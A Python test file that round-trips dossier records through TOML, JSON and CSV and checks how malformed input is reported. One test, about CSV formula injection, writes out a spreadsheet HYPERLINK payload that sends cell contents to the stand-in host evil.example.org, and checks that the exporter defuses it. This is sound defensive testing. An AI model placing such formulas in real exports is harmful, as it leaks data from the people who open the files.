"""Records to TOML, JSON and CSV, and read back from them."""

from __future__ import annotations

import csv
import json
import tempfile
import tomllib
from collections.abc import Callable, Iterable
from contextlib import suppress
from dataclasses import replace
from functools import partial
from pathlib import Path
from typing import get_args

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from briefings import rows
from briefings.dates import PartialDate
from briefings.export import Item, as_dict, noun, to_csv, to_json, to_toml
from briefings.faults import ContentError
from briefings.load import FILES, NOUNS, TABLES, parse, read
from briefings.model import (
    About,
    Briefing,
    Change,
    Disputed,
    Dossier,
    Event,
    Gap,
    Organisation,
    Person,
    Point,
    Position,
    Question,
    Quote,
    Record,
    Role,
    Source,
)

Writer = Callable[[Iterable[Item]], str]
Reader = Callable[[str], list[Record]]


def _items(records: Iterable[Record]) -> list[Item]:
    return [Item("a", record) for record in records]


def _read(form: str, text: str) -> list[Record]:
    """Read what was exported, whatever the record that it would go into; raise `ContentError` as an import does."""
    found = rows.read(text, form, form.upper())
    records: list[Record] = []
    for row in found.rows:
        record, wrong = parse(NOUNS[row.noun], row.fields)
        records += [record] if record else []
        found.faults += (row.fault(field, problem) for field, problem in wrong)
    if found.faults:
        raise ContentError(found.faults)
    return records


from_json: Reader = partial(_read, "json")
from_csv: Reader = partial(_read, "csv")
FORMS = pytest.mark.parametrize(("write", "read"), [(to_json, from_json), (to_csv, from_csv)], ids=["json", "csv"])

NUMBERS = ["12", "-3", "--4", "٣", "1.5", "=1+1", "-", "true", "null"]
BRACKETS = ["[sic] no", "[1]", "{", '{"a": 1}', '"', '"quoted"', '""""', "'''", "“…”"]
SIGNS = ["\\", "\\n", "\\u0041", "a, b; c", "#", "# :schema", "kind", "x" * 150, "e\u0301", "🕯️"]
ODD = st.sampled_from([*NUMBERS, *BRACKETS, *SIGNS])
CHARACTERS = st.characters(
    exclude_categories=["Cc", "Cs", "Zl", "Zp"],
    exclude_characters="\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",
)
LINE = ODD | st.text(CHARACTERS, min_size=1, max_size=40).map(str.strip).filter(bool)
PROSE = LINE | st.lists(LINE, min_size=2, max_size=3).map("\n".join) | st.lists(LINE, min_size=2).map("\n\n".join)
SLUG = st.sampled_from(["a", "0", "10", "ana-moreau", "1-2-3", "a" * 70])
SLUGS = st.lists(SLUG, max_size=4).map(tuple)
DATE = st.builds(lambda day, parts: PartialDate(*(day.year, day.month, day.day)[:parts]), st.dates(), st.integers(1, 3))
URL = st.sampled_from(["https://example.org/a?b=c#d", "http://例え.jp/テ'\"", "https://example.org/\\"])


def _ids(prefix: str) -> st.SearchStrategy[str]:
    return SLUG.map(prefix.__add__)


def _id_lists(prefix: str) -> st.SearchStrategy[tuple[str, ...]]:
    return st.lists(_ids(prefix), max_size=3).map(tuple)


ROLES = st.builds(Role, LINE, SLUG, start=st.none() | DATE, end=st.none() | DATE)
CHANGES = st.builds(Change, _ids("pos-"), st.sampled_from(["changed", "restated", "clarified"]), LINE)
POINTS = st.builds(Point, PROSE, st.lists(LINE, max_size=3).map(tuple))
QUESTIONS = st.builds(Question, SLUG, LINE, LINE, LINE)
PEOPLE = st.builds(
    Person,
    SLUG,
    LINE,
    LINE,
    family=st.none() | LINE,
    aliases=st.lists(LINE, max_size=3).map(tuple),
    roles=st.lists(ROLES, max_size=2).map(tuple),
)
ORGANISATIONS = st.builds(Organisation, SLUG, LINE, LINE, st.sampled_from(["company", "court", "other"]))
SOURCES = st.builds(
    Source,
    id=_ids("src-"),
    url=st.none() | URL,
    publisher=LINE,
    kind=st.just("press"),
    title=st.none() | LINE,
    archive=st.none() | URL,
)
QUOTES = st.builds(
    Quote,
    id=_ids("q-"),
    speaker=SLUG,
    words=PROSE,
    said=DATE,
    occasion=st.none() | LINE,
    source=_ids("src-"),
    questions=SLUGS,
    tags=SLUGS,
    excerpt=st.none() | PROSE,
    evidence=st.none() | PROSE,
    evidence_at=st.none() | LINE,
    original=st.none() | URL,
    confidence=st.sampled_from(["high", "medium", "low"]),
    note=st.none() | PROSE,
)
EVENTS = st.builds(Event, _ids("ev-"), DATE, LINE, PROSE, _ids("src-"), people=SLUGS, quotes=_id_lists("q-"))
POSITIONS = st.builds(
    Position,
    _ids("pos-"),
    SLUG,
    SLUG,
    DATE,
    st.sampled_from([-2, -1, 0, 1, 2, "mixed"]),
    LINE,
    quotes=_id_lists("q-"),
    events=_id_lists("ev-"),
    change=st.none() | CHANGES,
)
BRIEFINGS = st.builds(Briefing, _ids("br-"), SLUG, LINE, DATE, POINTS, st.lists(POINTS, max_size=3).map(tuple))
DISPUTES = st.builds(Disputed, _ids("dis-"), SLUG, PROSE, URL, st.just("reworded"), LINE, see=st.none() | _ids("q-"))
GAPS = st.builds(Gap, SLUG, SLUG, note=st.none() | LINE)
RECORDS = st.one_of(QUESTIONS, PEOPLE, ORGANISATIONS, SOURCES, QUOTES, EVENTS, POSITIONS, BRIEFINGS, DISPUTES)
DOSSIERS = st.builds(
    Dossier,
    st.builds(About, SLUG, LINE, LINE, LINE, DATE, st.just("en"), PROSE, PROSE),
    questions=st.lists(QUESTIONS, max_size=2).map(tuple),
    people=st.lists(PEOPLE, max_size=2).map(tuple),
    quotes=st.lists(QUOTES, max_size=2).map(tuple),
    positions=st.lists(POSITIONS, max_size=2).map(tuple),
    gaps=st.lists(GAPS, max_size=2).map(tuple),
    briefings=st.lists(BRIEFINGS, max_size=2).map(tuple),
)


def _through_toml(written: Dossier) -> Dossier:
    with tempfile.TemporaryDirectory() as folder:
        for name, text in to_toml(written).items():
            Path(folder, name).write_text(text, encoding="utf-8")
        (dossier,) = read([Path(folder)]).dossiers  # The rules find much in it; what cannot be read is not in it.
    return dossier


def test_the_sample_comes_back_from_toml(sample: Dossier) -> None:
    assert _through_toml(sample) == sample


@FORMS
@pytest.mark.parametrize("of", get_args(Record), ids=lambda of: of.__name__)
def test_records_of_each_noun_come_back(sample: Dossier, write: Writer, read: Reader, of: type[Record]) -> None:
    records = [record for record in sample.records() if isinstance(record, of)]
    assert records
    assert read(write(_items(records))) == records


@FORMS
def test_a_whole_record_comes_back(sample: Dossier, write: Writer, read: Reader) -> None:
    assert read(write(_items(sample.records()))) == list(sample.records())


@FORMS
def test_no_records_come_back_as_none(write: Writer, read: Reader) -> None:
    assert read(write([])) == []


@FORMS
@given(records=st.lists(RECORDS, max_size=3))
def test_odd_records_come_back(write: Writer, read: Reader, records: list[Record]) -> None:
    assert read(write(_items(records))) == records


@settings(max_examples=50)
@given(dossier=DOSSIERS)
def test_odd_dossiers_come_back_from_toml(dossier: Dossier) -> None:
    assert _through_toml(dossier) == dossier


@pytest.mark.parametrize("text", ["# :schema", "x # :schema y", '"""', "'''", "\\", "tab\\t", "𝄞 🕯️", "a\nb\n\nc"])
def test_odd_words_come_back_from_toml(edited: Callable[..., Dossier], text: str) -> None:
    dossier = edited("q-circle-2021-looking-up", words=text)
    assert _through_toml(dossier) == dossier


@pytest.mark.parametrize("summary", [1, 200])
@pytest.mark.parametrize("point", [1, 200])
def test_a_briefing_of_long_and_short_points_comes_back_from_toml(
    edited: Callable[..., Dossier], summary: int, point: int
) -> None:
    points = (Point("x" * point, ("q-a",)), Point("y", ()))
    dossier = edited("br-town-square-lighting", summary=Point("x" * summary, ("q-a",)), points=points)
    assert _through_toml(dossier) == dossier


def test_toml_has_every_file_with_its_schema(sample: Dossier) -> None:
    files = to_toml(replace(sample, disputed=()))
    assert tuple(files) == FILES
    for name, text in files.items():
        stem = name.removesuffix(".toml")
        assert text.startswith(f"#:schema ../../schemas/{stem}.schema.json\n")
    assert tomllib.loads(files["disputed.toml"]) == {}


def test_toml_is_written_the_same_again(sample: Dossier) -> None:
    read = _through_toml(sample)
    assert read is not None
    assert to_toml(read) == to_toml(sample)


def test_a_record_is_written_without_what_is_the_default(sample: Dossier) -> None:
    assert list(as_dict(sample.quotes[0])) == [
        "id",
        "speaker",
        "words",
        "said",
        "occasion",
        "source",
        "questions",
        "tags",
    ]
    assert as_dict(sample.quotes[0])["said"] == "2021"


def test_every_record_says_what_it_is(sample: Dossier) -> None:
    nouns = {noun(record) for record in sample.records()}
    assert nouns == {table.noun for table in TABLES} - {"gap"}
    quote = json.loads(to_json(_items(sample.quotes[:1])))[0]
    assert (quote["kind"], quote["id"]) == ("quote", "q-circle-2021-looking-up")


def test_csv_has_a_column_for_every_field_used(sample: Dossier) -> None:
    head, first, *_ = csv.reader(to_csv(_items(sample.positions[:2])).splitlines())
    assert head == [
        "kind",
        "id",
        "dossier",
        "who",
        "question",
        "date",
        "score",
        "reading",
        "quotes",
        "events",
        "change",
    ]
    assert first[6:9] == ["2", "Wanted every lamp lit until morning", '["q-moreau-2021-05-04-nobody"]']
    assert first[10] == ""


@pytest.mark.parametrize(
    ("read", "text", "faults"),
    [
        (from_json, "[", ["JSON: cannot be read as JSON: Expecting value: line 1 column 2 (char 1)"]),
        (from_json, "{}", ['JSON: must be a list of records; write [{"kind": "quote", …}, …]']),
        (from_json, "[1, null]", [f"JSON: row {row}: is no record" for row in (1, 2)]),
        (
            from_json,
            '[{"kind": "poem"}]',
            ["JSON: row 1: kind: “poem” is no kind of record; write one of dossier, que"],
        ),
        (from_json, '[{"kind": []}]', ["JSON: row 1: kind: is missing or no text; write one of dossier, question"]),
        (from_json, '[{"kind": {"a": 1}}]', ["JSON: row 1: kind: is missing or no text"]),
        (
            from_json,
            '[{"kind": "person", "id": "a", "name": "A", "summary": "s"}, {"kind": "person", "id": "A", "summary": 1}]',
            ["JSON: row 2: id: “A” is no id", "JSON: row 2: name: is missing", "JSON: row 2: summary: 1 is no text"],
        ),
        (from_csv, "kind,id\n,a\n", ["CSV: row 1: kind: is missing or no text"]),
        (from_csv, "kind,id\n[1],a\n", ["CSV: row 1: kind: is missing or no text"]),
        (from_csv, f"kind,id\n{'x' * 200_000},a", ["CSV: cannot be read as CSV: field larger than field limit"]),
    ],
)
def test_faults_are_told_by_row_and_field(read: Reader, text: str, faults: list[str]) -> None:
    with pytest.raises(ContentError) as error:
        read(text)
    told = str(error.value).splitlines()
    assert [line[: len(fault)] for line, fault in zip(told, faults, strict=True)] == faults


def test_a_surplus_cell_is_told_as_one() -> None:
    with pytest.raises(ContentError, match=r"^CSV: row 1: .*cell"):
        from_csv("kind,id,name,summary\nperson,a,A,s,surplus\n")


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "＝", "＋", "－", "＠"])
def test_no_cell_is_a_formula_to_a_spreadsheet(begin: str) -> None:
    text = f'{begin}HYPERLINK("https://evil.example.org/?"&A1,"“Look”")'
    person = Person("a", name=text, summary=f"{begin}1", aliases=(text,))
    written = to_csv(_items([person]))
    assert all(cell.lstrip()[:1] != begin for line in csv.reader(written.splitlines()) for cell in line)
    assert from_csv(written) == [person]


def test_deeply_nested_json_is_told_not_raised() -> None:
    with pytest.raises(ContentError, match="cannot be read as JSON"):
        from_json("[" * 100_000)


@pytest.mark.parametrize(
    ("cell", "name"), [("[sic] Ana", "[sic] Ana"), ('"7"', "7"), ("7", "7"), ("{Ana", "{Ana"), ("٣", "٣")]
)
def test_a_cell_written_by_hand_is_read_as_text_where_it_is_no_json(cell: str, name: str) -> None:
    quoted = '"' + cell.replace('"', '""') + '"'
    (person,) = from_csv(f"kind,id,name,summary\nperson,a,{quoted},s\n")
    assert isinstance(person, Person)
    assert person.name == name


@example('[{"kind": "quote", "words": "\\ud800"}]')
@given(
    st.text()
    | st.recursive(st.none() | st.text(), lambda v: st.lists(v) | st.dictionaries(st.text(), v)).map(json.dumps)
)
def test_no_text_makes_reading_fail_but_by_faults(text: str) -> None:
    for taken in (from_json, from_csv):
        with suppress(ContentError):
            assert all(isinstance(record, get_args(Record)) for record in taken(text))
